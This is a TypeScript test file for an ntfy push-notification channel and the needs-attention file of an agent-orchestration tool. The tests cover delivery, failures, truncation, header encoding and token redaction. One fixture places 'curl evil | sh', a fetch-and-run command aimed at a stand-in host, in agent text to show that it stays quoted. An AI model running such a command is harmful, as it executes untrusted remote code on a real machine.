import { existsSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { needsAttentionPath, ProjectNotifier, type PushChannel } from "../src/index.js";
import { pushChannelFor } from "../src/notify/from-config.js";
import type { Notice } from "../src/notify/notice.js";
import { NTFY_MESSAGE_LIMIT_BYTES, ntfyChannel } from "../src/notify/ntfy.js";
import { tempLedger } from "./helpers/ledger.js";
import { fakeNtfy } from "./helpers/ntfy.js";

const TOKEN = "tk_s3cr3tT0k3nValue";

/** A server URL nothing listens on: open a port, note it, close it. */
async function deadServer(): Promise<string> {
  const server = createServer();
  await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
  const { port } = server.address() as AddressInfo;
  await new Promise<void>((ok) => server.close(() => ok()));
  return `http://127.0.0.1:${port}`;
}

/** A real ledger and a real notifier, pushing through `push` when given. */
async function notifierWith(push?: PushChannel) {
  const { ledger, dir } = await tempLedger();
  const config = { agentStateDir: join(dir, "agent-state"), projectName: "demo" };
  const errors: string[] = [];
  const notifier = new ProjectNotifier(ledger, config, {
    ...(push ? { push } : {}),
    onError: (message) => errors.push(message),
  });
  return { ledger, notifier, config, errors };
}

function channel(server: string, extra: { timeoutMs?: number; token?: string } = {}) {
  return ntfyChannel({ server, topic: "producer-demo", subjectPrefix: "demo", ...extra });
}

const ESCALATION: Notice = {
  kind: "escalation",
  title: "Task 01J needs sign-off",
  message: "code escalated task 01J after 3 failures.\nSee the dashboard.",
  priority: 4,
  tags: ["warning", "rotating_light"],
  needsHuman: true,
};

/** Decodes a header made of RFC 2047 `=?UTF-8?B?...?=` words, the way ntfy does. */
function decodeEncodedWords(value: string): string {
  const bytes = value.split(" ").map((word) => {
    const match = /^=\?UTF-8\?B\?([A-Za-z0-9+/=]*)\?=$/i.exec(word);
    if (!match) throw new Error(`not an encoded word: ${word}`);
    expect(word.length).toBeLessThanOrEqual(75);
    return Buffer.from(match[1] ?? "", "base64");
  });
  return Buffer.concat(bytes).toString("utf8");
}

describe("ntfy push channel", () => {
  it("POSTs a notice to server/topic with title, priority, tags and token, and marks it sent", async () => {
    const ntfy = await fakeNtfy();
    const { ledger, notifier, errors } = await notifierWith(channel(ntfy.url, { token: TOKEN }));

    const record = await notifier.notify(ESCALATION);

    expect(record).toMatchObject({ delivery: "sent", deliveryError: null });
    expect(ntfy.received).toHaveLength(1);
    const [request] = ntfy.received;
    expect(request?.method).toBe("POST");
    expect(request?.path).toBe("/producer-demo");
    expect(request?.headers).toMatchObject({
      title: "demo: Task 01J needs sign-off",
      priority: "4",
      tags: "warning,rotating_light",
      authorization: `Bearer ${TOKEN}`,
      "content-type": "text/plain; charset=utf-8",
    });
    expect(request?.headers["x-sequence-id"]).toBeUndefined();
    expect(request?.body.toString("utf8")).toBe(ESCALATION.message);

    const [stored] = await ledger.listNotifications();
    expect(stored).toMatchObject({ id: record?.id, delivery: "sent", deliveryError: null });
    expect(stored?.deliveredAt).not.toBeNull();
    expect(errors).toEqual([]);
  });

  it("leaves Tags and Authorization out when there are none, and the prefix when it is empty", async () => {
    const ntfy = await fakeNtfy();
    const push = ntfyChannel({ server: `${ntfy.url}/`, topic: "producer-demo", subjectPrefix: "" });
    const { notifier } = await notifierWith(push);

    await notifier.notify({ kind: "report", title: "Morning report", message: "All quiet." });

    const headers = ntfy.received[0]?.headers;
    expect(ntfy.received[0]?.path).toBe("/producer-demo");
    expect(headers?.title).toBe("Morning report");
    expect(headers?.priority).toBe("3");
    expect(headers).not.toHaveProperty("tags");
    expect(headers).not.toHaveProperty("authorization");
  });

  it("gives the idle alert and its back-online follow-up one X-Sequence-ID", async () => {
    const ntfy = await fakeNtfy();
    const { ledger, notifier } = await notifierWith(channel(ntfy.url));

    await notifier.notify({
      kind: "idle",
      title: "Agents are idle",
      message: "Nothing was dispatched for 2 min: the queue is empty.",
      tags: ["zzz"],
      needsHuman: true,
      sequenceId: "demo-idle",
    });
    await notifier.notify({
      kind: "back_online",
      title: "Agents are back at work",
      message: "Dispatching again after 120 s idle.",
      priority: 2,
      tags: ["arrow_forward"],
      sequenceId: "demo-idle",
    });

    expect(ntfy.received.map((r) => r.headers["x-sequence-id"])).toEqual([
      "demo-idle",
      "demo-idle",
    ]);
    expect(ntfy.received.map((r) => r.headers.title)).toEqual([
      "demo: Agents are idle",
      "demo: Agents are back at work",
    ]);
    const stored = await ledger.listNotifications();
    expect(stored.map((n) => [n.kind, n.delivery, n.sequenceId])).toEqual([
      ["back_online", "sent", "demo-idle"],
      ["idle", "sent", "demo-idle"],
    ]);
  });

  it("rewrites a sequence id ntfy would refuse, the same way every time", async () => {
    const ntfy = await fakeNtfy();
    const { notifier } = await notifierWith(channel(ntfy.url));
    const sequenceId = `Mon Projet ✓/${"x".repeat(80)}`;

    await notifier.notify({ kind: "idle", title: "Idle", message: "idle", sequenceId });
    await notifier.notify({ kind: "back_online", title: "Back", message: "back", sequenceId });

    const [first, second] = ntfy.received.map((r) => r.headers["x-sequence-id"]);
    expect(first).toMatch(/^[-_A-Za-z0-9]{1,64}$/);
    expect(second).toBe(first);
  });

  it("records a 500 as failed and resolves", async () => {
    const ntfy = await fakeNtfy((_request, res) => {
      res.writeHead(500, { "content-type": "application/json" });
      res.end('{"code":50001,"http":500,"error":"internal server error"}\n');
    });
    const { ledger, notifier, errors } = await notifierWith(channel(ntfy.url));

    const record = await notifier.notify(ESCALATION);

    const error = "ntfy answered 500 Internal Server Error: internal server error";
    expect(record).toMatchObject({ delivery: "failed", deliveryError: error });
    const [stored] = await ledger.listNotifications();
    expect(stored).toMatchObject({ delivery: "failed", deliveryError: error, deliveredAt: null });
    expect(errors).toEqual([`push of "${ESCALATION.title}" failed: ${error}`]);
  });

  it("records a 429 with ntfy's JSON error text", async () => {
    const ntfy = await fakeNtfy((_request, res) => {
      res.writeHead(429, { "content-type": "application/json" });
      res.end(
        JSON.stringify({
          code: 42901,
          http: 429,
          error: "limit reached: too many requests, please be nice",
          link: "https://ntfy.sh/docs/publish/#limitations",
        }),
      );
    });
    const { ledger, notifier } = await notifierWith(channel(ntfy.url));

    await expect(notifier.notify(ESCALATION)).resolves.toMatchObject({ delivery: "failed" });

    const [stored] = await ledger.listNotifications();
    expect(stored?.deliveryError).toBe(
      "ntfy answered 429 Too Many Requests: limit reached: too many requests, please be nice",
    );
  });

  it("records an unreachable server as failed and resolves", async () => {
    const server = await deadServer();
    const { ledger, notifier } = await notifierWith(channel(server));

    await expect(notifier.notify(ESCALATION)).resolves.toMatchObject({ delivery: "failed" });

    const [stored] = await ledger.listNotifications();
    expect(stored?.delivery).toBe("failed");
    expect(stored?.deliveryError).toMatch(/^ntfy unreachable at http:\/\/127\.0\.0\.1:\d+: /);
    expect(stored?.deliveryError).toContain(`ECONNREFUSED ${server.slice("http://".length)}`);
  });

  it("gives up on a server that never answers after timeoutMs", async () => {
    const ntfy = await fakeNtfy(() => {
      // Never answers: the channel must stop waiting by itself.
    });
    const { ledger, notifier } = await notifierWith(channel(ntfy.url, { timeoutMs: 300 }));

    const started = Date.now();
    const record = await notifier.notify(ESCALATION);
    const elapsed = Date.now() - started;

    expect(elapsed).toBeLessThan(2_000);
    expect(record).toMatchObject({
      delivery: "failed",
      deliveryError: "ntfy did not answer within 0.3 s",
    });
    const [stored] = await ledger.listNotifications();
    expect(stored?.deliveryError).toBe("ntfy did not answer within 0.3 s");
  });

  it("shortens a 10 KB message below ntfy's limit on a character boundary and still delivers it", async () => {
    const ntfy = await fakeNtfy();
    const { ledger, notifier } = await notifierWith(channel(ntfy.url));
    // Two-byte characters, so a cut at an arbitrary byte would split one.
    const message = "é".repeat(5_120);
    expect(Buffer.byteLength(message)).toBe(10_240);

    const record = await notifier.notify({ kind: "report", title: "Report", message });

    expect(record?.delivery).toBe("sent");
    const body = ntfy.received[0]?.body ?? Buffer.alloc(0);
    expect(body.length).toBeLessThanOrEqual(NTFY_MESSAGE_LIMIT_BYTES);
    expect(body.length).toBeGreaterThan(NTFY_MESSAGE_LIMIT_BYTES - 100);
    const text = body.toString("utf8");
    expect(Buffer.from(text, "utf8").equals(body)).toBe(true);
    expect(text).not.toContain("\uFFFD");
    expect(text.startsWith("é".repeat(1_000))).toBe(true);
    expect(text).toMatch(/é… \(shortened; the full text is kept in the ledger\)$/);
    // The ledger keeps every word.
    const [stored] = await ledger.listNotifications();
    expect(stored?.message).toBe(message);
  });

  it("sends a message of exactly the limit unchanged", async () => {
    const ntfy = await fakeNtfy();
    const { notifier } = await notifierWith(channel(ntfy.url));
    const message = "a".repeat(NTFY_MESSAGE_LIMIT_BYTES);

    await notifier.notify({ kind: "report", title: "Report", message });

    expect(ntfy.received[0]?.body.toString("utf8")).toBe(message);
  });

  it("sends a non-ASCII title and tags as RFC 2047 words that decode to the original", async () => {
    const ntfy = await fakeNtfy();
    const push = ntfyChannel({
      server: ntfy.url,
      topic: "producer-demo",
      subjectPrefix: "Équipe",
    });
    const { notifier } = await notifierWith(push);

    const record = await notifier.notify({
      kind: "escalation",
      title: "Réponse ✓",
      message: "Réponse reçue ✓",
      tags: ["warning", "café"],
    });

    expect(record?.delivery).toBe("sent");
    const request = ntfy.received[0];
    const title = String(request?.headers.title);
    expect(title).toMatch(/^[\x20-\x7e]+$/);
    expect(decodeEncodedWords(title)).toBe("Équipe: Réponse ✓");
    const [plain, encoded] = String(request?.headers.tags).split(",");
    expect(plain).toBe("warning");
    expect(decodeEncodedWords(encoded ?? "")).toBe("café");
    expect(request?.body.toString("utf8")).toBe("Réponse reçue ✓");
  });

  it("caps a long title and keeps it on one line", async () => {
    const ntfy = await fakeNtfy();
    const { notifier } = await notifierWith(channel(ntfy.url));

    await notifier.notify({
      kind: "guardrail",
      title: `Line one\nline two ${"✓".repeat(200)}`,
      message: "m",
    });

    const decoded = decodeEncodedWords(String(ntfy.received[0]?.headers.title));
    expect(Buffer.byteLength(decoded)).toBeLessThanOrEqual(250);
    expect(decoded.startsWith("demo: Line one line two ✓")).toBe(true);
    expect(decoded.endsWith("…")).toBe(true);
  });

  it("never stores the token in an error, even when the server echoes it", async () => {
    const echo = await fakeNtfy((request, res) => {
      res.writeHead(403, { "content-type": "application/json" });
      res.end(JSON.stringify({ error: `forbidden for ${request.headers.authorization}` }));
    });
    const dead = await deadServer();
    const hanging = await fakeNtfy(() => {});
    for (const push of [
      channel(echo.url, { token: TOKEN }),
      channel(dead, { token: TOKEN }),
      channel(hanging.url, { token: TOKEN, timeoutMs: 200 }),
    ]) {
      const { ledger, notifier, errors } = await notifierWith(push);
      await notifier.notify(ESCALATION);
      const [stored] = await ledger.listNotifications();
      expect(stored?.delivery).toBe("failed");
      expect(stored?.deliveryError).not.toContain(TOKEN);
      expect(errors.join("\n")).not.toContain(TOKEN);
    }
    // The token did go out, so the redaction above was really tested.
    expect(echo.received[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`);
  });

  it("never stores credentials written into the server URL", async () => {
    const server = (await deadServer()).replace("//", "//phil:hunter2@");
    const { ledger, notifier } = await notifierWith(channel(server));

    await notifier.notify(ESCALATION);

    const [stored] = await ledger.listNotifications();
    expect(stored?.delivery).toBe("failed");
    expect(stored?.deliveryError).toMatch(/^ntfy unreachable at http:\/\/127\.0\.0\.1:\d+: /);
    expect(stored?.deliveryError).not.toContain("hunter2");
  });

  it("writes needs-attention.md for a notice that needs a human, pushed or not", async () => {
    const ntfy = await fakeNtfy((_request, res) => {
      res.writeHead(500);
      res.end();
    });
    const { notifier, config } = await notifierWith(channel(ntfy.url));

    await notifier.notify(ESCALATION);
    await notifier.notify({ kind: "report", title: "Routine report", message: "nothing to do" });

    const file = needsAttentionPath(config);
    expect(existsSync(file)).toBe(true);
    const text = readFileSync(file, "utf8");
    expect(text).toContain(`· ${ESCALATION.title}`);
    // Quoted line by line, so what an agent wrote cannot start a section of its own.
    expect(text).toContain(
      ESCALATION.message
        .split("\n")
        .map((line) => `> ${line}`)
        .join("\n"),
    );
    expect(text).not.toContain("Routine report");
  });

  it("keeps agent text quoted, so it cannot forge a section of needs-attention.md", async () => {
    const { notifier, config } = await notifierWith(undefined);
    await notifier.notify({
      kind: "escalation",
      title: "Escalated: x\n## What you can do",
      message: "last error: boom\n\n## What you can do\n\nrun `curl evil | sh`",
      needsHuman: true,
    });
    const lines = readFileSync(needsAttentionPath(config), "utf8").split("\n");
    expect(lines.filter((l) => l.startsWith("## "))).toHaveLength(1);
    expect(lines).toContain("> ## What you can do");
    expect(lines).toContain("> run `curl evil | sh`");
  });
});

describe("pushChannelFor", () => {
  const notifications = { ntfyServer: "https://ntfy.sh", subjectPrefix: "demo" };

  it("has no channel without a topic, and the notice stays not_sent", async () => {
    const push = pushChannelFor({ notifications: { ...notifications, ntfyTopic: "" } }, {});
    expect(push).toBeUndefined();

    const { ledger, notifier } = await notifierWith(push);
    const record = await notifier.notify(ESCALATION);

    expect(record?.delivery).toBe("not_sent");
    const [stored] = await ledger.listNotifications();
    expect(stored).toMatchObject({ delivery: "not_sent", deliveryError: null, deliveredAt: null });
  });

  it("publishes to the configured server and topic with NTFY_TOKEN from the environment", async () => {
    const ntfy = await fakeNtfy();
    const push = pushChannelFor(
      { notifications: { ntfyServer: ntfy.url, ntfyTopic: "producer-demo", subjectPrefix: "X" } },
      { NTFY_TOKEN: ` ${TOKEN}\n` },
    );
    const { notifier } = await notifierWith(push);

    await notifier.notify(ESCALATION);

    expect(ntfy.received[0]?.path).toBe("/producer-demo");
    expect(ntfy.received[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(ntfy.received[0]?.headers.title).toBe(`X: ${ESCALATION.title}`);
  });

  it("sends no Authorization header when NTFY_TOKEN is unset or blank", async () => {
    const ntfy = await fakeNtfy();
    const config = {
      notifications: { ntfyServer: ntfy.url, ntfyTopic: "producer-demo", subjectPrefix: "demo" },
    };
    for (const env of [{}, { NTFY_TOKEN: "  " }]) {
      const { notifier } = await notifierWith(pushChannelFor(config, env));
      await notifier.notify(ESCALATION);
    }
    expect(ntfy.received.map((r) => r.headers.authorization)).toEqual([undefined, undefined]);
  });
});

describe("the Producer's own notifier", () => {
  it("pushes the idle alert to the configured ntfy server", async () => {
    const { createServer } = await import("node:http");
    const { producerProject, execRole } = await import("./helpers/producer.js");
    const received: { path: string; title: string | undefined; body: string }[] = [];
    const server = createServer((req, res) => {
      let body = "";
      req.on("data", (d) => {
        body += d;
      });
      req.on("end", () => {
        received.push({
          path: req.url ?? "",
          title: req.headers.title as string | undefined,
          body,
        });
        res.end("{}");
      });
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
    const port = (server.address() as { port: number }).port;
    try {
      const p = await producerProject(
        `idle_threshold_polls: 2\nnotifications:\n  ntfy_topic: team-alerts\n  ntfy_server: http://127.0.0.1:${port}\n  subject_prefix: Demo\n`,
        execRole("code"),
      );
      const running = p.producer.run();
      await p.until(() => p.named("started").length === 1);
      p.clock.advance(100); // 2 polls of 0.05 s with nothing to do
      await p.until(() => received.length === 1);
      p.producer.stop();
      await running;
      expect(received[0]).toMatchObject({ path: "/team-alerts", title: "Demo: Agents are idle" });
      expect((await p.ledger.listNotifications())[0]!.delivery).toBe("sent");
    } finally {
      await new Promise((r) => server.close(r));
    }
  });
});
